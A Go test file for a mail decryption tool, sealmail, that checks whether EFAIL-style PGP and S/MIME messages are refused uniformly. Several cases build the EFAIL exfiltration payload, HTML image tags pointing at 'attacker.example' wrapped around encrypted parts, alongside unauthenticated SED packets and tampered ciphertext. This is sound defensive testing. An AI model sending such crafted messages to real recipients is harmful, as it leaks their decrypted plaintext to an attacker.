package main

// The EFAIL set (issue 5; reliability.md P1, M8, C1, C3): each message is
// refused with exit status 2, not one byte on stdout, and the very same
// stderr line, so that no failure can be told from another.

import (
	"bytes"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
)

const refusedLine = "sealmail: message cannot be decrypted\n"

// wantRefusedRun checks one refused run.
func wantRefusedRun(t *testing.T, name string, r result) {
	t.Helper()
	if r.code != 2 || r.stdout != "" || r.stderr != refusedLine {
		t.Errorf("%s: exit %d, %d bytes on stdout, stderr %q; want exit 2, nothing, %q", name, r.code, len(r.stdout), r.stderr, refusedLine)
	}
}

// efailCases are the PGP messages to alice that must be refused.
func efailCases(t *testing.T, a *home) map[string][]byte {
	t.Helper()
	entity := []byte(crlf("Content-Type: text/plain", "", "the secret"))
	armored := encryptArmored(t, entity, a.cert(t))
	good := pgpMIMEMessage(outer, armored)

	sed, sedBin := sedMessage(t, a, entity)
	// The SED message is sound: go-crypto reads it when told to accept
	// unauthenticated data (sealmail never does).
	checkSEDReadable(t, a, sedBin, entity)

	// GnuPG 2.2 still writes SED when told to, with a warning.
	g := gpgHome(t)
	gpg(t, g, nil, "--import", writeFile(t, t.TempDir(), "alice.asc", a.public(t)))
	gpgSED := gpg(t, g, entity, "--rfc2440", "--cipher-algo", "AES256", "--disable-mdc", "--armor", "-r", a.address, "--encrypt")
	if tags := packetTags(t, dearmor(t, gpgSED)); len(tags) != 2 || tags[1] != 9 {
		t.Fatalf("gpg wrote packets %v, want PKESK and SED (tag 9)", tags)
	}

	bin := dearmor(t, armored)
	flipped := bytes.Clone(bin)
	flipped[len(flipped)-30] ^= 0x01 // inside the SEIPD ciphertext
	truncatedBin := bin[:len(bin)-10]
	armorLines := strings.Split(strings.TrimSpace(string(armored)), "\n")
	truncatedArmor := strings.Join(armorLines[:len(armorLines)-3], "\n") + "\n"

	html := func(s string) string { return crlf("--m", "Content-Type: text/html", "", s) }
	_, encryptedPart, _ := strings.Cut(string(good), "MIME-Version: 1.0\r\n")
	mixed := func(middle string) []byte {
		return []byte(outer + crlf(`Content-Type: multipart/mixed; boundary="m"`, "") +
			html(`<img src="http://attacker.example/`) + "--m\r\n" + middle + "\r\n" + html(`">`) + "--m--\r\n")
	}
	goodStr := string(good)
	return map[string][]byte{
		"SED packet (no MDC)":                 pgpMIMEMessage(outer, sed),
		"SED packet, inline":                  inlineMessage(outer, sed),
		"SED packet by gpg --disable-mdc":     pgpMIMEMessage(outer, gpgSED),
		"one flipped ciphertext byte":         pgpMIMEMessage(outer, armorMessage(t, flipped)),
		"truncated ciphertext":                pgpMIMEMessage(outer, armorMessage(t, truncatedBin)),
		"truncated armor":                     pgpMIMEMessage(outer, []byte(truncatedArmor)),
		"truncated message":                   good[:len(good)/2],
		"truncated before the close boundary": []byte(strings.TrimSuffix(goodStr, "--b1--\r\n")),
		"PGP/MIME beside HTML parts":          mixed(encryptedPart),
		"inline armor beside HTML parts":      mixed(crlf("Content-Type: text/plain", "") + string(armored)),
		"multipart/encrypted with a third part": []byte(strings.Replace(goodStr, "--b1--",
			crlf("--b1", "Content-Type: text/html", "", `<img src="http://attacker.example/">`)+"--b1--", 1)),
		"inline armor with text before": inlineMessage(outer, append([]byte("<img src=\"http://attacker.example/\n"), armored...)),
		"inline armor with text after":  inlineMessage(outer, append(bytes.Clone(armored), "\">\n"...)),
		"wrong key":                     pgpMIMEMessage(outer, encryptArmored(t, entity, sharedHome(t, "bob@example.net", "default").cert(t))),
		"not encrypted at all":          []byte(outer + crlf("Content-Type: text/plain", "", "hello")),
		"empty input":                   nil,
	}
}

func packetTags(t *testing.T, bin []byte) []uint8 {
	t.Helper()
	var tags []uint8
	r := packet.NewOpaqueReader(bytes.NewReader(bin))
	for {
		p, err := r.Next()
		if err != nil {
			return tags
		}
		tags = append(tags, p.Tag)
	}
}

func checkSEDReadable(t *testing.T, a *home, bin, want []byte) {
	t.Helper()
	keys, err := openpgp.ReadArmoredKeyRing(bytes.NewReader(a.secret(t)))
	if err != nil {
		t.Fatal(err)
	}
	if err := keys[0].DecryptPrivateKeys([]byte(testPassphrase)); err != nil {
		t.Fatal(err)
	}
	md, err := openpgp.ReadMessage(bytes.NewReader(bin), keys, nil, &packet.Config{InsecureAllowUnauthenticatedMessages: true})
	if err != nil {
		t.Fatalf("insecure ReadMessage of the SED message: %v", err)
	}
	var got bytes.Buffer
	if _, err := got.ReadFrom(md.UnverifiedBody); err != nil || !bytes.Equal(got.Bytes(), want) {
		t.Fatalf("insecure ReadMessage read %q, %v", got.Bytes(), err)
	}
}

func TestEFAILRefusedPGP(t *testing.T) {
	t.Parallel()
	a := alice(t)
	for name, msg := range efailCases(t, a) {
		wantRefusedRun(t, name, a.decrypt(t, msg))
	}
}

// TestEFAILRefusedSMIME: bad CBC padding, a corrupted RSA key block, a
// wrong key and an S/MIME part beside HTML all look the same (C3).
func TestEFAILRefusedSMIME(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	id := newSMIMEIdentity(t, "alice@example.org")
	other := newSMIMEIdentity(t, "alice@example.org")
	keyFile := writeFile(t, dir, "alice.pem", id.pem)
	content := []byte(crlf("Content-Type: text/plain", "", "the secret"))
	run := func(msg []byte) result {
		return sealmail(t, msg, "decrypt", "--home", filepath.Join(dir, "none"), "--key", keyFile)
	}
	// The well-formed message decrypts; so the refusals below are the
	// spoiled parts' doing.
	if r := run(smimeMessage(outer, cmsEnvelope(t, id, content, cmsOptions{}))); r.code != 0 || !strings.Contains(r.stdout, "the secret") {
		t.Fatalf("good S/MIME message: exit %d, stderr %q", r.code, r.stderr)
	}
	good := smimeMessage(outer, cmsEnvelope(t, id, content, cmsOptions{}))
	_, part, _ := strings.Cut(string(good), "MIME-Version: 1.0\r\n")
	for name, msg := range map[string][]byte{
		"bad CBC padding":            smimeMessage(outer, cmsEnvelope(t, id, content, cmsOptions{badPadding: true})),
		"corrupted RSA key block":    smimeMessage(outer, cmsEnvelope(t, id, content, cmsOptions{badKey: true})),
		"wrong key":                  smimeMessage(outer, cmsEnvelope(t, other, content, cmsOptions{})),
		"truncated":                  good[:len(good)-40],
		"signed-data, not encrypted": bytes.Replace(good, []byte("enveloped-data"), []byte("signed-data"), 1),
		"S/MIME part beside HTML": []byte(outer + crlf(`Content-Type: multipart/mixed; boundary="m"`, "", "--m",
			"Content-Type: text/html", "", `<img src="http://attacker.example/`, "--m") + part + crlf("", "--m",
			"Content-Type: text/html", "", `">`, "--m--")),
	} {
		wantRefusedRun(t, name, run(msg))
	}
}

// TestDebugShowsTheReason: --debug adds a line for local troubleshooting;
// the verdict and the exit status stay the same.
func TestDebugShowsTheReason(t *testing.T) {
	t.Parallel()
	a := alice(t)
	sed, _ := sedMessage(t, a, []byte(crlf("Content-Type: text/plain", "", "x")))
	r := a.decrypt(t, pgpMIMEMessage(outer, sed), "--debug")
	if r.code != 2 || r.stdout != "" || !strings.HasSuffix(r.stderr, refusedLine) ||
		!strings.Contains(r.stderr, "sealmail: debug: ") || !strings.Contains(r.stderr, "tag 9") {
		t.Errorf("exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
}
